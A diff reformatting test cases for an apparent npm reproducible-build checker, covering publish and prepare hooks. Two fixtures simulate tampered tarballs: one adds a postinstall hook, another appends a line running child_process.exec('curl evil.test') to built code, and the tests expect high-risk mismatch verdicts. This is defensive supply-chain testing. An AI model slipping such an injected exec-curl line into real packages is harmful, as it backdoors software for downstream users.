@@ -56,7 +56,11 @@ describe('publish steps: what npm publish and release tools run beyond npm pack'
   });
 
   it('packs the package as it stands when prepublishOnly only pushes, which a sandbox cannot', async () => {
-    const pkg = await makeGitPackage(join(farm.dir, 'src/pub-push'), { 'package.json': packageJson('pub-push', '1.0.0', { scripts: { prepublishOnly: 'git push origin --follow-tags' } }), 'index.js': SRC }, 'v1.0.0');
+    const pkg = await makeGitPackage(
+      join(farm.dir, 'src/pub-push'),
+      { 'package.json': packageJson('pub-push', '1.0.0', { scripts: { prepublishOnly: 'git push origin --follow-tags' } }), 'index.js': SRC },
+      'v1.0.0',
+    );
     await publishAfter(pkg, '1.0.0', []);
     const view = await farm.submitAndDecide({ purl: 'pkg:npm/pub-push@1.0.0' });
     const logs = await logsOf(view);
@@ -69,7 +73,11 @@ describe('publish steps: what npm publish and release tools run beyond npm pack'
     const pkg = await makeGitPackage(
       join(farm.dir, 'src/pub-hooks'),
       {
-        'package.json': packageJson('pub-hooks', '1.0.0', { main: 'dist/index.js', files: ['dist'], scripts: { preprepare: 'node -e "require(\'fs\').rmSync(\'dist\', { recursive: true, force: true })"', prepare: 'node build.js', postprepare: 'node fixup.js' } }),
+        'package.json': packageJson('pub-hooks', '1.0.0', {
+          main: 'dist/index.js',
+          files: ['dist'],
+          scripts: { preprepare: "node -e \"require('fs').rmSync('dist', { recursive: true, force: true })\"", prepare: 'node build.js', postprepare: 'node fixup.js' },
+        }),
         'build.js': BUILD_JS,
         'fixup.js': fixup,
         'src/index.js': SRC,
@@ -88,7 +96,11 @@ describe('publish steps: what npm publish and release tools run beyond npm pack'
       join(farm.dir, 'src/pub-git'),
       {
         // a hook installer's way: find the top level, fail outside a repository
-        'package.json': packageJson('pub-git', '1.0.0', { main: 'dist/index.js', files: ['dist'], scripts: { prepare: 'cd "$(git rev-parse --show-toplevel)" && git check-ignore -q dist/index.js && node build.js' } }),
+        'package.json': packageJson('pub-git', '1.0.0', {
+          main: 'dist/index.js',
+          files: ['dist'],
+          scripts: { prepare: 'cd "$(git rev-parse --show-toplevel)" && git check-ignore -q dist/index.js && node build.js' },
+        }),
         '.gitignore': 'dist/\n',
         'build.js': BUILD_JS,
         'src/index.js': SRC,
@@ -109,7 +121,10 @@ describe('publish steps: what npm publish and release tools run beyond npm pack'
       'v1.2.0',
     );
     // semantic-release: `npm version` first, then the build and the publish
-    await publishAfter(pkg, '1.2.0', [['npm', 'version', '1.2.0', '--no-git-tag-version', '--allow-same-version'], ['node', 'build.js']]);
+    await publishAfter(pkg, '1.2.0', [
+      ['npm', 'version', '1.2.0', '--no-git-tag-version', '--allow-same-version'],
+      ['node', 'build.js'],
+    ]);
     const view = await farm.submitAndDecide({ purl: 'pkg:npm/pub-version@1.2.0' });
     const logs = await logsOf(view);
     expect(['reproducible', 'equivalent'], logs.join('\n')).toContain(view.verdict?.verdict);
@@ -162,7 +177,11 @@ describe('publish steps: what npm publish and release tools run beyond npm pack'
 
   it('still calls a CRLF package.json mismatch when more than its line ends differ (an added postinstall)', async () => {
     const pkg = await makeGitPackage(join(farm.dir, 'src/pub-crlf-evil'), { 'package.json': packageJson('pub-crlf-evil', '1.0.0'), 'index.js': SRC }, 'v1.0.0');
-    const addHook = ['node', '-e', 'const fs = require("fs"); const p = JSON.parse(fs.readFileSync("package.json", "utf8")); p.scripts = { postinstall: "node -e 1" }; fs.writeFileSync("package.json", JSON.stringify(p, null, 2) + "\\n")'];
+    const addHook = [
+      'node',
+      '-e',
+      'const fs = require("fs"); const p = JSON.parse(fs.readFileSync("package.json", "utf8")); p.scripts = { postinstall: "node -e 1" }; fs.writeFileSync("package.json", JSON.stringify(p, null, 2) + "\\n")',
+    ];
     await publishAfter(pkg, '1.0.0', [addHook, toCrlf]);
     const view = await farm.submitAndDecide({ purl: 'pkg:npm/pub-crlf-evil@1.0.0' });
     expect(view.verdict?.verdict).toBe('mismatch');
@@ -268,7 +287,10 @@ describe('publish steps: what npm publish and release tools run beyond npm pack'
       'v1.0.0',
     );
     // the publisher's machine built from a changed source: the change exists only in the tarball
-    await publishAfter(pkg, '1.0.0', [['node', 'build.js'], ['sh', '-c', 'echo "require(\'child_process\').exec(\'curl evil.test\');" >> dist/index.js']]);
+    await publishAfter(pkg, '1.0.0', [
+      ['node', 'build.js'],
+      ['sh', '-c', "echo \"require('child_process').exec('curl evil.test');\" >> dist/index.js"],
+    ]);
     const view = await farm.submitAndDecide({ purl: 'pkg:npm/pub-evil@1.0.0' });
     expect(view.verdict?.verdict).toBe('mismatch');
     expect(view.verdict?.risk?.level).toBe('high');
